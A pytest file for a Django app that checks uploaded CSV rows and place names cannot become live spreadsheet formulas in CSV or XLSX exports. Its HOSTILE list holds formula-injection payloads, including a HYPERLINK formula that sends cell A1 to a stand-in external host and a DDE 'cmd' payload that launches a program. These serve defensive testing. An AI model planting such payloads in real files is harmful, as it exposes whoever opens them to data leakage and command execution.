"""Text that a spreadsheet would take for a formula, brought in by one person and opened by
another."""

from __future__ import annotations

import csv
import io
import zipfile

import fastexcel
import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from hedgerow.web.access.audience import Role
from hedgerow.web.evidence.models import Contribution, Record
from tests.web.evidence.conftest import do_what_waits  # noqa: F401  # a fixture
from tests.web.security.pages import HERE

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE = (
    '=HYPERLINK("https://elsewhere.example/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
)


def cells_of(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def formulas_of(content: bytes) -> list[object]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def begins_a_formula(cell: str) -> bool:
    if cell.lstrip(" ")[:1] not in tuple("=+-@\t\r"):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def test_what_one_brings_is_no_formula_where_another_takes_it_away(
    people,
    signed_in,
    do_what_waits,  # noqa: F811  # the fixture of that name
):
    lines = io.StringIO()
    writer = csv.writer(lines)
    writer.writerow(["School", "Practice, tool or routine", "Which of the three", "First day"])
    for number, text in enumerate(HOSTILE):
        writer.writerow([900010 + number, text, "practice", "2021-09-01"])
    steward = signed_in(people[Role.STEWARD])
    answer = steward.post(
        f"{HERE}/evidence/",
        {"file": SimpleUploadedFile("adoptions.csv", lines.getvalue().encode())},
    )
    assert answer.status_code == 302
    do_what_waits()
    found = Contribution.objects.get()
    marked = steward.get(f"{HERE}/evidence/{found.pk}/marked.xlsx")
    if marked.status_code == 200:
        assert formulas_of(marked.getvalue()) == []
    marked.close()
    steward.post(f"{HERE}/evidence/{found.pk}/import/")
    do_what_waits()
    assert any("HYPERLINK" in str(one.values) for one in Record.objects.all())
    package = steward.get(f"{HERE}/out/package.zip")
    assert package.status_code == 200
    with zipfile.ZipFile(io.BytesIO(package.content)) as parts:
        cells = [
            cell
            for name in parts.namelist()
            if name.endswith(".csv")
            for cell in cells_of(parts.read(name))
        ]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if begins_a_formula(cell)] == []


@pytest.mark.parametrize("name", HOSTILE)
def test_a_places_name_is_no_formula_in_its_files(people, signed_in, name):
    client = signed_in(people[Role.MEMBER])
    schools = "\n".join(str(900010 + number) for number in range(8))
    kept = client.post("/own/", {"name": name, "schools": schools})
    assert kept.status_code == 302, kept.text
    place = kept["Location"]
    listed = client.get(f"{place}schools/?as=csv")
    assert [cell for cell in cells_of(listed.content) if begins_a_formula(cell)] == []
    for path in (f"{place}download.xlsx", f"{place}schools/?as=xlsx"):
        answer = client.get(path)
        assert answer.status_code == 200
        assert formulas_of(answer.content) == []
        assert fastexcel.read_excel(answer.content).sheet_names
        assert "HYPERLINK" not in answer["Content-Disposition"]
